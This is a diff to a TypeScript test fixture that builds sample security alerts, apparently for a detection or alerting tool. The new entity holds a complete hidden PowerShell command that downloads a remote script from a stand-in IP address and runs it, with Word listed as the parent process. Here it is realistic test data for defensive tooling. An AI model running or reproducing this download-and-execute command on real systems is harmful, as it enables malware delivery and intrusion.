@@ -88,7 +88,16 @@ export function sampleAlert(id: string, overrides: Record<string, unknown> = {})
     entities: [
       { kind: 'host', value: 'web01', role: 'target' },
       { kind: 'user', value: 'alice', role: 'actor' },
-      { kind: 'process', value: 'powershell.exe -nop -w hidden -enc SQBFAFgA', role: 'related' },
+      {
+        kind: 'process',
+        value: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
+        role: 'actor',
+        properties: {
+          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+          commandLine: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
+          parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
+        },
+      },
     ],
     ...overrides,
   };
